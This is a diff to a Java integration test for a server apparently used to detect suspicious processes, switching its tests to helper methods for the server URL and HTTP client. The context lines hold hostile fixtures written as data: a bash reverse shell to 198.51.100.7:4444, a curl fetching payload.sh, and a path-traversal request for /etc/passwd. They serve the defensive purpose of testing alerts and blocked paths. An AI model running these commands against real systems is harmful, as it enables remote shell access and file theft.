@@ -37,7 +37,7 @@ class ConsoleTest {
     void start(@TempDir Path directory) throws Exception {
         server = new KirokuServer(new ServerConfig(directory.resolve("server"), "127.0.0.1", 0, Duration.ofDays(30)),
                 InstantSource.system()).start();
-        base = "http://127.0.0.1:" + server.port();
+        base = server.url();
         Instant now = Instant.now();
         ProcessInfo shell = process("e-shell", 5100, "/usr/bin/bash", List.of("bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"));
         ProcessInfo curl = process("e-curl", 5200, "/usr/bin/curl", List.of("curl", "-s", "http://127.0.0.1:8080/payload.sh"));
@@ -50,7 +50,7 @@ class ConsoleTest {
         String[] admin = java.nio.file.Files.readString(server.credentialsFile()).trim().split(":", 2);
         user = admin[0];
         password = admin[1];
-        var http = java.net.http.HttpClient.newHttpClient();
+        var http = dev.kiroku.it.ServerRest.client(server);
         var alerts = java.net.http.HttpRequest.newBuilder(java.net.URI.create(base + "/api/v1/alerts"))
                 .header("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString((user + ":" + password).getBytes())).build();
         await().atMost(Duration.ofSeconds(30)).until(() ->
@@ -208,7 +208,7 @@ class ConsoleTest {
 
     @Test
     void unsafeOrUnknownConsolePathsAreNotServed() throws Exception {
-        var http = java.net.http.HttpClient.newHttpClient();
+        var http = dev.kiroku.it.ServerRest.client(server);
         for (String path : List.of("/console/../../../etc/passwd", "/console/js/%2e%2e/x.js", "/console/nothing.js")) {
             var response = http.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(base + path)).build(),
                     java.net.http.HttpResponse.BodyHandlers.ofString());
